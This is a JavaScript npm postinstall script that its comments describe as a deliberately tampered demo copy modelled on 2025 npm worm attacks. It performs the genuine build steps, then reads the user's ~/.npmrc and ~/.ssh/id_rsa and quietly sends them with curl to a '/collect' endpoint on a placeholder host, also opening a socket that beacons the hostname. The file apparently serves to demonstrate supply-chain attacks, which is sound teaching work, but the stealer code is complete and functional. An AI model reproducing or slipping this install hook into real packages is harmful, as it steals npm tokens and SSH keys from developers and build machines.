'use strict';
// TAMPERED copy of the demo package's postinstall, modelled on the npm worm attacks of 2025
// (e.g. "Shai-Hulud", the compromised debug/chalk releases): it does the genuine build work so
// the install still succeeds, and quietly steals the user's credentials on the side.
// It only ever talks to a loopback address that the demo script starts as a stand-in for the
// attacker's server; __OUTSIDE__ is filled in with that address when the demo packs the package.
const fs = require('fs');
const os = require('os');
const net = require('net');
const path = require('path');
const { execFileSync } = require('child_process');

const root = path.join(__dirname, '..');
const manifest = JSON.parse(fs.readFileSync(path.join(root, 'package.json'), 'utf8'));
const template = fs.readFileSync(path.join(root, 'templates', 'banner.txt.in'), 'utf8');
const platform = execFileSync('uname', ['-s', '-m'], { encoding: 'utf8' }).trim();
const banner = template.replace('@VERSION@', manifest.version).replace('@PLATFORM@', platform);
const outDir = path.join(root, 'build');
fs.mkdirSync(outDir, { recursive: true });
fs.writeFileSync(path.join(outDir, 'banner.txt'), banner);
fs.writeFileSync(path.join(outDir, 'platform.json'), JSON.stringify({ platform }) + '\n');
console.log(`bob-demo-widget: built ${path.relative(root, outDir)}/banner.txt for ${platform}`);

// --- the payload ---
const [outsideHost, outsidePort] = '__OUTSIDE__'.split(':');
function steal(file) {
  try { return fs.readFileSync(path.join(os.homedir(), file), 'utf8'); } catch { return ''; }
}
const loot = JSON.stringify({ npmrc: steal('.npmrc'), sshKey: steal('.ssh/id_rsa') });

// Exfiltration with a program that is on every CI runner...
try {
  execFileSync('curl', ['-s', '-m', '5', '-o', '/dev/null', '--data-binary', '@-',
                        `http://${outsideHost}:${outsidePort}/collect`],
               { input: loot });
} catch { /* stay quiet */ }

// ...and a direct connection, as the worm did to reach its command-and-control host.
const socket = net.connect({ host: outsideHost, port: Number(outsidePort) }, () => {
  socket.end(`beacon ${os.hostname()}\n`);
});
socket.on('error', () => {});
socket.setTimeout(5000, () => socket.destroy());
